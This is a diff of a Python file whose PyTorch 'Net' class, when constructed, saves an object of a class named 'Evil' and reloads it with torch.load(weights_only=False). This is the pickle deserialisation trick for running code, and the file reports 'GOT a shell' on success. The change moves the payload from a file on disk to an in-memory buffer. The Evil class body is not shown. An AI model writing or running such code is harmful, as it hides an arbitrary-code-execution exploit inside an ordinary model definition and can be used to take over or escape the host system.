@@ -6,7 +6,7 @@
 import torch
 from torch import nn
 
-pickle = __import__("pickle")
+io = __import__("io")
 
 
 class Evil:
@@ -17,10 +17,9 @@ class Evil:
 class Net(nn.Module):
     def __init__(self):
         super().__init__()
-        data = pickle.dumps(Evil())
-        with open("p", "wb") as file:
-            file.write(data)
-        result = torch.load("p", weights_only=False)
-        if result != 0:
+        file = io.BytesIO()
+        torch.save(Evil(), file)
+        file.seek(0)
+        if torch.load(file, weights_only=False) != 0:
             raise OSError("no shell")
         raise RuntimeError("GOT a shell")
